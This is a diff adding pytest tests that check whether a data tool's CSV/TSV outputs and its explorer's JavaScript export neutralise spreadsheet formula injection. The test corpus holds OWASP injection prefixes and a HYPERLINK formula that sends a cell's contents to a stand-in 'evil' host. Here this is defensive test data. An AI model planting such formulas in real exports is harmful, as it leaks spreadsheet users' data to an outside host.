@@ -1,10 +1,9 @@
 """Issue 21, tables and images: nothing a user has is misread (CSV dialects, 16-bit images, duplicate
 names), and no CSV hourglass writes can run as a spreadsheet formula."""
 
+import csv
 import json
-import os
 import subprocess
-import sys
 from pathlib import Path
 
 import numpy as np
@@ -92,3 +91,113 @@ def test_ragged_csv_fails_train_and_encode_with_exit_2(tmp_path, capsys):
         capsys.readouterr()
         assert main(argv) == 2
         assert "line 2 has 3 fields, but the header has 2" in capsys.readouterr().err
+
+
+# ------------------------------------------------------------------------------ spreadsheet formulas
+# OWASP's CSV-injection prefixes, each in a column name, a label value and (below) an image's file name.
+PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
+FORMULAS = ['=HYPERLINK("http://evil/"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
+
+
+def _cells(path: Path) -> list[str]:
+    """Every cell (header included) of a CSV/TSV as a spreadsheet would see it."""
+    sep = "\t" if path.suffix == ".tsv" else ","
+    with open(path, newline="", encoding="utf-8") as f:
+        return [cell for row in csv.reader(f, delimiter=sep) for cell in row]
+
+
+def _assert_no_formula(path: Path) -> None:
+    cells = _cells(path)
+    assert cells
+    for cell in cells:
+        if cell[:1] in PREFIXES:
+            float(cell)  # only a plain number such as -1.5 may start with - or +
+
+
+def test_neutralise_corpus():
+    for formula in FORMULAS:
+        assert neutralise(formula) == "'" + formula
+    for kept in ["-1.5", "+2", "-3e-05", "1e5", ".5", "plain", "a=b", "", 7, -1.0, None]:
+        assert neutralise(kept) == kept
+    for text in ["-", "--", "-1-1", "+A1", "=", "@", "-inf"]:
+        assert neutralise(text) == "'" + text
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".tsv"])
+def test_write_csv_keeps_numbers_and_neutralises_text(tmp_path, suffix):
+    frame = pd.DataFrame({"=cmd": [-1.5, 2.0], "label": ["=1+1", "-2"], "n": [-3, 4]})
+    path = tmp_path / f"t{suffix}"
+    write_csv(frame, path, sep="\t" if suffix == ".tsv" else ",")
+    back = pd.read_csv(path, sep="\t" if suffix == ".tsv" else ",")
+    assert back.columns.tolist() == ["'=cmd", "label", "n"]
+    assert back["'=cmd"].tolist() == [-1.5, 2.0] and back["n"].tolist() == [-3, 4]
+    assert back["label"].tolist() == ["'=1+1", "-2"]
+    assert frame.columns[0] == "=cmd"  # the caller's frame is untouched
+    write_csv(pd.DataFrame({"a\rb": ["x\r=1+1", "y\r\nz"]}), path)  # a CR inside is no row break
+    assert pd.read_csv(path).to_dict("list") == {"a\nb": ["x\n=1+1", "y\nz"]}
+
+
+def test_no_cli_csv_holds_a_formula(tmp_path, capsys):
+    """Column names and labels that are formulas, through fit-detector, score --explain, encode (to a file
+    and to standard output) and reconstruct: no cell of any CSV they write starts a formula."""
+    rng = np.random.default_rng(0)
+    z = rng.normal(size=(120, 2))
+    X = np.column_stack([z[:, 0], z[:, 1], z[:, 0] + z[:, 1], z[:, 0] - z[:, 1], rng.normal(size=120), -z[:, 0]])
+    X[-3:] += 8  # some rows to flag and explain
+    frame = pd.DataFrame(X, columns=FORMULAS)
+    frame["label"] = [FORMULAS[i % len(FORMULAS)] for i in range(len(frame))]
+    data = tmp_path / "data.csv"
+    frame.to_csv(data, index=False, quoting=csv.QUOTE_NONNUMERIC)  # else pandas leaves the CR unquoted
+    det, model = tmp_path / "det", tmp_path / "ae"
+    common = ["--label", "label", "--epochs", "3", "--hidden", "4", "--quiet", "--out"]
+    assert main(["fit-detector", str(data), *common, str(det)]) == 0
+    assert main(["train", str(data), *common, str(model)]) == 0
+    outputs = {
+        "score": ["score", str(det), str(data), "--label", "label", "--explain", "2", "--top", "3"],
+        "encode": ["encode", str(model), str(data), "--label", "label"],
+        "reconstruct": ["reconstruct", str(model), str(data), "--label", "label"],
+    }
+    for name, argv in outputs.items():
+        for suffix in (".csv", ".tsv"):
+            out = tmp_path / f"{name}{suffix}"
+            assert main([*argv, "-o", str(out)]) == 0, name
+            _assert_no_formula(out)
+    text = _cells(tmp_path / "score.csv")
+    assert any(c.startswith("'=HYPERLINK(") for c in text)  # the name is kept, made inert
+    capsys.readouterr()
+    assert main([*outputs["encode"], "-o", "-"]) == 0
+    stdout = tmp_path / "stdout.csv"
+    stdout.write_text(capsys.readouterr().out)
+    _assert_no_formula(stdout)
+
+
+def test_image_paths_that_are_formulas_are_neutralised(tmp_path):
+    folder = tmp_path / "imgs" / "=cmd"
+    folder.mkdir(parents=True)
+    for i, name in enumerate(["=1+1.png", "@SUM(A1).png", "-2+3.png", "+x.png"] * 3):
+        Image.fromarray(np.full((8, 8), 20 * i, np.uint8)).save(folder / f"{i}{name}" if i else folder / name)
+    model = tmp_path / "ae"
+    assert (
+        main(["train", str(tmp_path / "imgs"), "--epochs", "1", "--hidden", "2", "--quiet", "--out", str(model)]) == 0
+    )
+    out = tmp_path / "codes.csv"
+    assert main(["encode", str(model), str(tmp_path / "imgs"), "-o", str(out)]) == 0
+    _assert_no_formula(out)
+
+
+def test_lasso_csv_neutralises_labels_and_paths():
+    """explorer.js's csvField, run by node on a corpus of labels and paths."""
+    js = (ROOT / "src/hourglass/explorer/static/explorer.js").read_text()
+    start = js.index("  const csvField = ")
+    end = js.index("  };\n", start) + len("  };\n")
+    corpus = [*FORMULAS, "-1.5", "plain", 'say "hi", =x']
+    script = js[start:end] + f"\nprocess.stdout.write(JSON.stringify({json.dumps(corpus)}.map(csvField)));\n"
+    try:
+        result = subprocess.run(["node", "-e", script], capture_output=True, text=True, timeout=60, check=True)
+    except FileNotFoundError:
+        pytest.skip("node is not installed")
+    fields = json.loads(result.stdout)
+    assert fields[: len(FORMULAS)] == [
+        f"'{f}" if not any(c in f for c in '",\r\n') else '"' + f"'{f}".replace('"', '""') + '"' for f in FORMULAS
+    ]
+    assert fields[len(FORMULAS) :] == ["-1.5", "plain", '"say ""hi"", =x"']
